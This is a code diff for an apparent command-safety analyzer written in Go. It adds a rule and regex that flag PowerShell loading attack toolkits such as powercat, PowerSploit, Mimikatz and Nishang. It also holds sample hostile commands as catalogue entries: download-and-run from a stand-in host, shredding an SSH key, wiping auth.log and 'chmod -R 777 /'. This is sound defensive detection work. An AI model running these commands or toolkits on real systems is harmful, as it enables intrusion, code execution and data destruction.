@@ -46,6 +46,7 @@ var Catalogue = []Entry{
 	{"exec/install_url", "npm", "https://docs.npmjs.com/cli/v10/commands/npm-install", "npm install https://x.example/pkg.tgz", false},
 	{"exec/download_run", "PowerShell", "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression", "iex (iwr https://x.example/a.ps1)", false},
 	{"exec/eval", "PowerShell", "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression", "pwsh -Command 'Invoke-Expression $payload'", false},
+	{"exec/attack_toolkit", "PowerShell", "https://github.com/besimorhino/powercat", "powershell -nop -c \". .\\powercat.ps1\"", true},
 	{"destroy/shred", "shred", "https://www.gnu.org/software/coreutils/manual/html_node/shred-invocation.html", "shred -u ~/.ssh/id_ed25519", false},
 	{"destroy/truncate_system", "truncate", "https://www.gnu.org/software/coreutils/manual/html_node/truncate-invocation.html", "truncate -s 0 /var/log/auth.log", false},
 	{"priv/perms_system", "chmod", "https://www.gnu.org/software/coreutils/manual/html_node/chmod-invocation.html", "chmod -R 777 /", false},
@@ -129,6 +130,11 @@ var (
 	// psCatExec matches powercat (netcat in PowerShell) told to run a program or PowerShell for
 	// the connection: -e PROGRAM, -ep.
 	psCatExec = lazyre.New(`(?i)\bpowercat\b[^;|]*\s-(?:e|ep)\b`)
+	// psToolkit matches PowerShell loading, by dot-sourcing or Import-Module (ipmo), a script
+	// or module named for a known attack toolkit: powercat, PowerSploit and its PowerView,
+	// PowerUp and Invoke-Mimikatz, Nishang and its Invoke-PowerShellTcp, Inveigh, SharpHound,
+	// Invoke-TheHash, Invoke-Obfuscation. Reading such a file (Get-Content) is no load.
+	psToolkit = lazyre.New(`(?i)(?:^|[\s;(|{"'])(?:\.|import-module|ipmo)\s+["']?[^\s;|"']*?\b(?:powercat|powersploit|powerview|powerup(?:sql)?|invoke-mimikatz|mimikatz|nishang|invoke-powershelltcp(?:oneline)?|inveigh|sharphound|invoke-thehash|invoke-obfuscation)(?:\.ps[dm]?1)?(?:["'\s;|)}]|$)`)
 )
 
 // catalogue checks one resolved command against the Catalogue.
@@ -457,6 +463,11 @@ func (a *analyzer) powershell(text, line string) {
 	if psCatExec.MatchString(text) || psSocket.MatchString(text) && (psEval.MatchString(text) || psRun.MatchString(text)) {
 		a.add("exec/reverse_shell", "hands PowerShell or a program to a network connection", line, 0.95)
 		return
+	}
+	if psToolkit.MatchString(text) {
+		// Loading alone runs nothing of the toolkit yet (what it then runs is judged above and
+		// below), but a developer's task has no use for one: a careful reviewer asks.
+		a.ask("exec/attack_toolkit", "loads a known attack toolkit into PowerShell (powercat, PowerSploit, Nishang, ...)", line, 0.9)
 	}
 	if !psEval.MatchString(text) {
 		return
